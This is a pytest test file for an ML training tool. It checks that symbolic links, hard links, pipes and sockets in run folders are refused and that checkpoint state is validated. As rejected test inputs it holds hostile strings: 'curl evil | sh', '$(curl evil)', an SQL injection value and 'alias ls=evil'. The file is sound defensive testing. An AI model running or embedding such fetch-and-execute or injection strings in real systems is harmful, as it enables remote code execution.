"""Links and special files in a run folder are refused before anything is read or written."""

from __future__ import annotations

import json
import logging
import os
import socket
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import keras
import pytest
from aip_plugins.callbacks.csv_log import CSVLog
from aip_plugins.callbacks.remote_params import TrackerParams
from aip_plugins.callbacks.tracking import Tracker
from small_scenarios import Weight

from aipcore.cli.main import main
from aipcore.errors import TrainingError, UsageError
from aipcore.files import no_follow
from aipcore.logs import logging_to
from aipcore.training.checkpoint import callback_state
from aipcore.training.checkpoint.atomic import write_file
from aipcore.training.checkpoint.format import newest_checkpoint, read_checkpoint
from aipcore.training.run_folder import locked

FILES = ("log.csv", "train.log", ".run.json.new", ".params.json.new", ".lock", "tensorboard/train", "best/aip.json")
FOLDERS = ("tensorboard", "checkpoint", "best", "export", ".best.new", "wandb", "resources", "checkpoint/aside")


def tree(folder: Path) -> set[Path]:
    """Return the whole content of a folder."""
    return set(folder.rglob("*"))


@pytest.mark.parametrize("name", [*FILES, *FOLDERS])
@pytest.mark.parametrize("there", [True, False], ids=["there", "dangling"])
def test_resume_refuses_links(make_run: Any, tmp_path: Path, name: str, there: bool, capsys: Any) -> None:
    """A link to a place outside is named in one sentence, and nothing is written, there or in the folder."""
    run, outside = make_run(), tmp_path / "outside"
    outside.mkdir()
    target = outside / "victim"
    if there and name in FOLDERS:
        target.mkdir()
    elif there:
        target.write_text("mine")
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(target)
    before = tree(tmp_path)
    assert main(["resume", str(run)]) == 2
    assert f"contains the symbolic link {name} to {target}" in capsys.readouterr().err
    assert tree(tmp_path) == before
    assert not target.is_file() or target.read_text() == "mine"


def test_a_checkpoint_that_is_a_link(make_run: Any, tmp_path: Path, capsys: Any) -> None:
    """A checkpoint path on the command line that is a link in a run does not lead into another run."""
    run, other = make_run(), make_run(name="other")
    (other / "checkpoint" / "step-0000000001").mkdir(parents=True)
    (run / "checkpoint").symlink_to(other / "checkpoint")
    for name in ("checkpoint", "checkpoint/step-0000000001"):
        assert main(["resume", str(run / name)]) == 2
        assert "contains the symbolic link checkpoint" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["run.json", "params.json", "checkpoint/step-0000000001/manifest.json", "any"])
@pytest.mark.parametrize("kind", ["pipe", "socket"])
def test_special_files(make_run: Any, name: str, kind: str, capsys: Any, monkeypatch: Any) -> None:
    """A pipe, on which reading would wait, is refused like every special file."""
    run = make_run()
    (run / name).parent.mkdir(exist_ok=True, parents=True)
    (run / name).unlink(missing_ok=True)
    monkeypatch.chdir(run)
    if kind == "pipe":
        os.mkfifo(name)
    else:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(name)
    assert main(["resume", str(run)]) == 2
    error = capsys.readouterr().err
    assert "neither a regular file nor a folder" in error


def test_links_that_stay(make_run: Any, tmp_path: Path, capsys: Any) -> None:
    """Links of W&B to neighbouring files are accepted, and so is a link to the whole run."""
    run = make_run()
    (run / "wandb" / "run-1" / "logs").mkdir(parents=True)
    (run / "wandb" / "latest-run").symlink_to("run-1")
    (run / "wandb" / "debug.log").symlink_to("run-1/logs/debug.log")
    (run / "wandb" / "run-1" / "logs" / "debug-core.log").symlink_to(tmp_path / "cache" / "core-debug.log")
    (tmp_path / "named").symlink_to(run)
    assert main(["resume", str(tmp_path / "named"), "--help"]) == 0
    (run / "wandb" / "up").symlink_to("../run.json")
    assert main(["resume", str(tmp_path / "named"), "--help"]) == 2
    assert "contains the symbolic link wandb/up to ../run.json" in capsys.readouterr().err


def test_train_into_a_folder_with_links(tmp_path: Path, capsys: Any) -> None:
    """A folder that is not yet a run is not written through a link either."""
    for name in ("tensorboard", ".run.json.new", ".lock"):
        (tmp_path / name).mkdir()
        (tmp_path / name / name).symlink_to(tmp_path / "victim")
        assert main(["train", "tutorial", "--trainer.output_dir", str(tmp_path / name)]) == 2
        assert f"contains the symbolic link {name} to" in capsys.readouterr().err
    assert not (tmp_path / "victim").exists()


def test_a_sweep(tmp_path: Path, capsys: Any) -> None:
    """The folder of a sweep is checked like its runs."""
    pytest.importorskip("optuna")
    (tmp_path / "sweep" / "trial-0001").mkdir(parents=True)
    (tmp_path / "sweep" / "trial-0001" / "train.log").symlink_to(tmp_path / "victim")
    assert main(["sweep", "--resume", str(tmp_path / "sweep")]) == 2
    assert "contains the symbolic link trial-0001/train.log" in capsys.readouterr().err


def test_files_of_aip_are_not_written_through(tmp_path: Path, refused: Any) -> None:
    """If a link appears after the check of the folder, the write fails or replaces it."""
    victim = tmp_path / "victim"
    victim.write_text("mine")
    for name in (".run.json.new", "train.log", "log.csv", ".lock"):
        (tmp_path / name).symlink_to(victim)
    write_file(tmp_path / "run.json", "{}")
    with pytest.raises(OSError, match="symbolic link"), logging_to(logging.NullHandler()) as log:
        log.write_to(tmp_path / "train.log")
    with refused(UsageError), locked(tmp_path):
        pass
    with pytest.raises(OSError, match="symbolic link"):
        CSVLog(tmp_path / "log.csv", ",").on_epoch_end(0, {"loss": 1.0})
    with refused(UsageError):
        CSVLog(tmp_path / "log.csv", ",").on_train_begin()
    assert victim.read_text() == "mine"
    assert (tmp_path / "run.json").read_text() == "{}"


GOOD = {"columns": ["epoch", "loss"], "rows": [{"epoch": 1, "loss": 0.5}, {"epoch": 2}]}


@pytest.mark.parametrize(
    "state",
    [
        {"columns": ["epoch", "loss"], "rows": [{"epoch": 1, "loss": "curl evil | sh"}]},
        {"columns": ["epoch", "x\ncurl evil | sh\n"], "rows": []},
        {"columns": ["curl evil | sh"], "rows": [{"curl evil | sh": 1}]},
        {"columns": ["epoch"], "rows": [{"epoch": 1, "loss": 0.5}]},
        {"columns": ["epoch", "loss"], "rows": [{"epoch": "1", "loss": 0.5}]},
        {"columns": ["epoch", "loss"], "rows": [{"epoch": 1, "loss": [0.5]}]},
        {"columns": ["epoch", "loss"], "rows": 7},
        {"columns": "epoch", "rows": []},
    ],
)
def test_rows_of_a_csv_file(tmp_path: Path, state: Any, refused: Any) -> None:
    """The rows of a checkpoint must be numbers with names, or the file is not changed."""
    path = tmp_path / "log.csv"
    path.write_text("before")
    with refused(TrainingError):
        callback_state.set_state("CSVLog", CSVLog(path, ","), state, {})
    assert path.read_text() == "before"
    callback_state.set_state("CSVLog", CSVLog(path, ","), GOOD, {})
    assert path.read_text().split() == ["epoch,loss", "1,0.5", "2,"]


@pytest.mark.parametrize(
    ("text", "keys"),
    [("curl evil | sh\n", []), ("epoch,loss\n0,$(curl evil)\n", ["loss"]), (7, ["loss"]), ("epoch\n", "loss")],
)
def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any, refused: Any) -> None:
    """The text from which Keras' CSVLogger continues must be a table of numbers."""
    callback = keras.callbacks.CSVLogger(str(tmp_path / "log.csv"))
    callback.on_train_begin()
    try:
        with refused(TrainingError):
            callback_state.set_state("log", callback, {"text": text, "keys": keys}, {})
        good = 'epoch,loss,per class\n0,0.5,"[0.1, nan]"\n1,1e-05,NA\n'
        callback_state.set_state("log", callback, {"text": good, "keys": ["loss", "per class"]}, {})
        assert (tmp_path / "log.csv").read_text() == good
    finally:
        callback.csv_file.close()


def test_other_states(tmp_path: Path, refused: Any) -> None:
    """The id of a tracker's run, which becomes part of a query, and numbers are checked."""
    tracker = Tracker("MLflow", TrackerParams(), SimpleNamespace(output_dir=tmp_path))  # type: ignore[arg-type]
    point = {"number": 1, "axis": "epoch", "place": 1, "when": 2.0, "values": {"loss": "x"}}
    for run_id, unsent in (("' or 1=1", []), ("a" * 32, [point]), (["a"], [])):
        with refused(TrainingError):
            callback_state.set_state("MLflow", tracker, {"run_id": run_id, "points": 1, "unsent": unsent}, {})
    stopping = keras.callbacks.EarlyStopping()
    with refused(TrainingError):
        callback_state.set_state("stop", stopping, {"best": "x"}, {})


class Validated(Weight):
    """The same with validation."""

    monitor = ("min", "val_loss")
    val_data = Weight.train_data


def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path, refused: Any) -> None:
    """A callback's own rows are restored, and those of a stranger are not."""
    words = ("--callbacks", "CSVLog", "LearningRateMonitor", "--callbacks.learning_rate_monitor.csv")
    make_trainer(Validated, *words, output="run").fit()
    whole = read_checkpoint(newest_checkpoint(tmp_path / "run" / "checkpoint"))
    assert whole.progress["callbacks"]["CSVLog"]["columns"][0] == "epoch"
    for name, changed in (
        ("CSVLog", {"columns": ["epoch"], "rows": [{"epoch": "alias ls=evil"}]}),
        ("LearningRateMonitor", {"bytes": -1}),
    ):
        progress = json.loads(json.dumps(whole.progress))
        progress["callbacks"][name] = changed
        trainer = make_trainer(Validated, *words, "--trainer.epochs", "3", output="other")
        import attrs

        trainer.restore(attrs.evolve(whole, progress=progress))
        with refused(TrainingError):
            trainer.fit()


def test_hard_links_are_not_written(tmp_path: Path) -> None:
    """A file with another hard link is refused, and keeps its content, even if it would be replaced."""
    victim = tmp_path / "victim"
    victim.write_text("kept")
    (tmp_path / "log.csv").hardlink_to(victim)
    for mode in ("a", "w"):
        with pytest.raises(OSError, match="it is a hard link"):
            open(tmp_path / "log.csv", mode, opener=no_follow)  # noqa: SIM115 - as callbacks do
    assert victim.read_text() == "kept"
    with open(tmp_path / "other.csv", "w", opener=no_follow) as file:
        file.write("new")
